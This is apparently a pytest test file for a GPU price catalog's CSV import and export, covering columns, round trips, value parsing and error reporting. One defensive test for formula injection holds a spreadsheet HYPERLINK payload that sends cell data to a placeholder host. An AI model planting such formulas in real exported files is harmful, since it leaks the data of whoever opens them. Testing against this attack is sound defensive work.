"""CSV import and export of GPU catalog rows: documented columns, exact round trip, errors."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from ftcost_gui.core.catalog import CatalogGpu, merge_catalogs
from ftcost_gui.io.catalog_csv import (
    COLUMNS,
    REQUIRED_COLUMNS,
    RowError,
    dumps_csv,
    export_csv,
    import_csv,
    loads_csv,
)
from ftcost_gui.io.catalog_store import CatalogError
from ftcost_gui.io.resources import builtin_catalog

ROOT = Path(__file__).resolve().parents[2]
DOCUMENTED = [
    "id", "name", "vendor", "memory_gib", "bf16_tflops", "bf16_supported", "memory_bandwidth_gb_s",
    "interconnect", "interconnect_gb_s", "gpus_per_node", "network", "network_gbit_s",
    "rent_unit_gpus", "achievable_fraction", "achievable_source", "achievable_as_of",
    "on_demand_usd_per_hour", "spot_usd_per_hour", "on_demand_low_usd_per_hour",
    "on_demand_high_usd_per_hour", "price_as_of", "price_source", "pricing_tier",
    "memory_vendor_gb", "counting", "tdp_w", "year", "spec_source", "notes", "provider", "region",
]  # fmt: skip


def row(**kw) -> dict[str, str]:
    """A valid CSV row as text cells (the A10's figures)."""
    base = {
        "id": "a10", "name": "A10", "vendor": "NVIDIA", "memory_gib": "22.1",
        "bf16_tflops": "125", "bf16_supported": "true", "memory_bandwidth_gb_s": "600",
        "interconnect": "pcie", "interconnect_gb_s": "64", "on_demand_usd_per_hour": "1.0",
        "spot_usd_per_hour": "", "price_as_of": "", "price_source": "", "memory_vendor_gb": "",
        "counting": "", "tdp_w": "", "year": "", "spec_source": "", "notes": "",
        "provider": "", "region": "", "pricing_tier": "",
    }  # fmt: skip
    return {**base, **kw}


def csv_text(rows: list[dict[str, str]], columns=DOCUMENTED, delimiter: str = ",") -> str:
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=list(columns), delimiter=delimiter, extrasaction="ignore")
    w.writeheader()
    w.writerows(rows)
    return buf.getvalue()


# --- Columns and round trip -------------------------------------------------------------------


def test_columns_are_the_documented_ones():
    assert list(COLUMNS) == DOCUMENTED
    assert set(COLUMNS) == set(CatalogGpu.model_fields)
    first = dumps_csv([]).splitlines()[0]
    assert first.split(",") == DOCUMENTED
    docs = (ROOT / "docs" / "catalogs.md").read_text(encoding="utf-8")
    for c in COLUMNS:
        assert f"| `{c}`" in docs, f"docs/catalogs.md does not document column {c}"
    assert set(REQUIRED_COLUMNS) <= set(COLUMNS)


def test_builtin_catalog_round_trips_exactly(tmp_path):
    gpus = list(builtin_catalog().gpus)
    path = tmp_path / "out" / "catalog.csv"
    export_csv(gpus, path)
    back, errors = import_csv(path)
    assert errors == []
    assert back == gpus  # every field, every row, in order
    assert any(g.spot_usd_per_hour is None for g in back)
    assert any("⚠" in g.spec_source for g in back)  # UTF-8 survives
    assert not any(g.bf16_supported for g in back if g.id in ("t4", "v100-32gb"))
    assert back[[g.id for g in back].index("mi250x")].counting == "per_gcd"
    assert sorted(p.name for p in path.parent.iterdir()) == ["catalog.csv"]  # atomic: no temp


def test_effective_rows_export(tmp_path):
    rows = merge_catalogs(builtin_catalog())
    path = tmp_path / "eff.csv"
    export_csv(rows, path)
    assert import_csv(path) == ([r.gpu for r in rows], [])


def test_awkward_text_round_trips(tmp_path):
    odd = CatalogGpu.model_validate(
        {
            **builtin_catalog().find("l4").model_dump(),
            "id": "odd",
            "name": 'Quote " and, comma',
            "notes": 'two\nlines, and a "quote"\r\nand CRLF',
            "price_source": "  leading and trailing spaces are kept?  ",
            "year": None,
            "tdp_w": 72.5,
            "memory_vendor_gb": 24.0,
        }
    )
    path = tmp_path / "odd.csv"
    export_csv([odd, builtin_catalog().find("a10")], path)
    back, errors = import_csv(path)
    assert errors == []
    assert back[1] == builtin_catalog().find("a10")
    # Cells are stripped on import: surrounding spaces are the one thing not kept.
    assert back[0] == odd.model_copy(update={"price_source": odd.price_source.strip()})


# --- Values -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "value"),
    [("true", True), ("FALSE", False), ("yes", True), ("No", False), ("1", True), ("0", False)],
)
def test_booleans(text, value):
    gpus, errors = loads_csv(csv_text([row(bf16_supported=text)]))
    assert errors == []
    assert gpus[0].bf16_supported is value


def test_empty_cells_mean_none_or_default():
    gpus, errors = loads_csv(csv_text([row()]))
    assert errors == []
    g = gpus[0]
    assert g.spot_usd_per_hour is None  # not the H100 default of 2.0
    assert (g.memory_vendor_gb, g.tdp_w, g.year) == (None, None, None)
    assert (g.price_as_of, g.notes) == ("", "")
    assert g.bf16_supported is True and g.counting == "per_gpu"
    assert (g.provider, g.region, g.pricing_tier) == ("", "", "on_demand")


def test_optional_columns_may_be_left_out():
    gpus, errors = loads_csv(csv_text([row()], columns=REQUIRED_COLUMNS))
    assert errors == []
    g = gpus[0]
    assert (g.id, g.memory_gib, g.bf16_tflops, g.on_demand_usd_per_hour) == ("a10", 22.1, 125, 1)
    assert g.spot_usd_per_hour is None and g.vendor == "" and g.bf16_supported is True


def test_columns_in_any_order_bom_and_semicolons():
    cols = list(reversed(DOCUMENTED))
    text = "\ufeff" + csv_text([row(on_demand_usd_per_hour="0.9")], columns=cols, delimiter=";")
    gpus, errors = loads_csv(text)
    assert errors == []
    assert gpus[0].on_demand_usd_per_hour == 0.9


# --- Errors -----------------------------------------------------------------------------------


BAD_CELLS = {
    "zero memory": ("memory_gib", "0", "greater than or equal to 1"),
    "negative price": ("on_demand_usd_per_hour", "-1", "greater than or equal to 0"),
    "negative spot": ("spot_usd_per_hour", "-0.5", "greater than or equal to 0"),
    "tflops too high": ("bf16_tflops", "1e6", "less than or equal to 100000"),
    "tflops zero": ("bf16_tflops", "0", "greater than or equal to 0.01"),
    "not a number": ("memory_gib", "lots", "valid number"),
    "nan": ("interconnect_gb_s", "nan", "less than or equal to"),
    "bad bool": ("bf16_supported", "maybe", "yes/no"),
    "bad fabric": ("interconnect", "carrier pigeon", "'nvlink'"),
    "bad counting": ("counting", "per_card", "'per_gpu'"),
    "bad tier": ("pricing_tier", "monthly", "'committed_1y'"),
    "spot without a price": ("pricing_tier", "spot", "a spot row needs a spot price"),
    "bad year": ("year", "2024.5", "valid integer"),
    "negative tdp": ("tdp_w", "-5", "greater than 0"),
    "empty required": ("bf16_tflops", "", "required, but empty"),
    "empty id": ("id", "  ", "required, but empty"),
}


@pytest.mark.parametrize("case", sorted(BAD_CELLS))
def test_bad_cell_is_reported_with_line_and_column(case):
    column, value, needle = BAD_CELLS[case]
    rows = [row(id="ok-1"), {**row(id="bad"), column: value}, row(id="ok-2")]
    gpus, errors = loads_csv(csv_text(rows))
    assert [g.id for g in gpus] == ["ok-1", "ok-2"]  # the other rows still import
    assert len(errors) == 1
    e = errors[0]
    assert (e.line, e.column) == (3, column)
    assert needle in e.reason
    assert str(e).startswith(f"line 3, column {column}: ")


def test_line_numbers_count_multiline_cells_and_blank_lines():
    text = csv_text([row(id="a", notes="one\ntwo\nthree"), row(id="b", memory_gib="0")])
    text = text.replace("\r\n", "\n")
    lines = text.split("\n")
    lines.insert(4, "")  # a blank line after the first record (which spans lines 2-4)
    gpus, errors = loads_csv("\n".join(lines))
    assert [g.id for g in gpus] == ["a"]
    assert gpus[0].notes == "one\ntwo\nthree"
    assert [(e.line, e.column) for e in errors] == [(6, "memory_gib")]


def test_several_errors_in_one_row():
    _, errors = loads_csv(csv_text([row(memory_gib="0", on_demand_usd_per_hour="-2")]))
    assert sorted(e.column for e in errors) == ["memory_gib", "on_demand_usd_per_hour"]
    assert {e.line for e in errors} == {2}


def test_duplicate_ids_refused():
    gpus, errors = loads_csv(csv_text([row(id="x"), row(id="y"), row(id="X")]))
    assert [g.id for g in gpus] == ["x", "y"]
    assert errors == [RowError(4, "id", "duplicate id (also on line 2)", "X")]


def test_extra_cells_refused():
    text = (
        csv_text([row(id="a")]) + "b,B,NVIDIA,1,1,true,1,pcie,1,,,,,,,,1,,,,,,,,,,,,,,,surplus\r\n"
    )
    gpus, errors = loads_csv(text)
    assert [g.id for g in gpus] == ["a"]
    assert [(e.line, e.reason, e.value) for e in errors] == [
        (3, "more cells than columns", "surplus")
    ]


@pytest.mark.parametrize("column", REQUIRED_COLUMNS)
def test_missing_required_column(column):
    cols = [c for c in DOCUMENTED if c != column]
    with pytest.raises(CatalogError, match=f"missing required column '{column}'"):
        loads_csv(csv_text([row()], columns=cols), source="x.csv")


@pytest.mark.parametrize(
    ("text", "needle"),
    [
        ("", "no header row"),
        ("id,name,colour\n", "unknown column 'colour'"),
        ("id,id,name\n", "column 'id' appears twice"),
    ],
)
def test_bad_structure(text, needle):
    with pytest.raises(CatalogError, match=needle):
        loads_csv(text)


def test_unreadable_files(tmp_path):
    with pytest.raises(CatalogError, match="cannot read"):
        import_csv(tmp_path / "absent.csv")
    latin = tmp_path / "latin.csv"
    latin.write_bytes(",".join(DOCUMENTED).encode() + b"\na10,Caf\xe9\n")
    with pytest.raises(CatalogError, match=r"latin\.csv is not UTF-8"):
        import_csv(latin)


def test_export_error_is_one_line(tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("")
    with pytest.raises(CatalogError, match="cannot write"):
        export_csv(builtin_catalog().gpus, blocker / "sub" / "x.csv")


# --- Provider, region and pricing tier (issue 16) ---------------------------------------------


def test_provider_region_and_tier_columns():
    rows = [
        row(id="a10-aws", provider="AWS", region="us-east-1", pricing_tier="committed_1y"),
        row(id="a10-spot", provider="Vast.ai", pricing_tier="spot", spot_usd_per_hour="0.4"),
    ]
    gpus, errors = loads_csv(csv_text(rows))
    assert errors == []
    assert [(g.provider, g.region, g.pricing_tier) for g in gpus] == [
        ("AWS", "us-east-1", "committed_1y"),
        ("Vast.ai", "", "spot"),
    ]
    assert loads_csv(dumps_csv(gpus)) == (gpus, [])


# --- Formula injection (issue 12) --------------------------------------------------------------


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
def test_text_cells_never_start_a_formula(tmp_path, prefix):
    evil = f'{prefix}HYPERLINK("http://x.example/?"&A1,"click")'
    gpu = CatalogGpu.model_validate(
        {
            **builtin_catalog().find("l4").model_dump(),
            "id": f"{prefix}id",
            "name": evil,
            "vendor": evil,
            "notes": evil,
            "provider": f"{prefix}1+1",
        }
    )
    path = tmp_path / "evil.csv"
    export_csv([gpu], path)
    cells = next(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    for column in ("id", "name", "vendor", "notes", "provider"):
        assert cells[column].startswith("'" + prefix), column
    # Numbers are written by ftcost (never a formula); importing gives the same row back.
    assert import_csv(path) == ([gpu], [])


def test_a_new_field_is_a_new_column_with_nothing_else_to_write():
    """Issue 11 will add per-row fields: one field with its metadata is the whole column."""
    from typing import Literal

    from ftcost_gui.core._field import fld
    from ftcost_gui.io.catalog_cells import column

    class Row(CatalogGpu):
        sustained_matmul_fraction: float | None = fld(
            None, "Sustained matmul", "Measured share of the dense peak.", "", gt=0, le=1
        )
        rented_as: Literal["single", "node"] = fld("single", "Rented as", "One GPU or a node.")

    frac = column("sustained_matmul_fraction", Row)
    assert (frac.kind, frac.optional, frac.required, frac.blank) == ("number", True, False, None)
    assert frac.parse("0.62") == 0.62 and frac.parse("") is None and frac.format(0.5) == "0.5"
    rented = column("rented_as", Row)
    assert (rented.kind, rented.choices, rented.blank) == ("choice", ("single", "node"), "single")
    assert rented.label == "Rented as" and rented.help == "One GPU or a node."
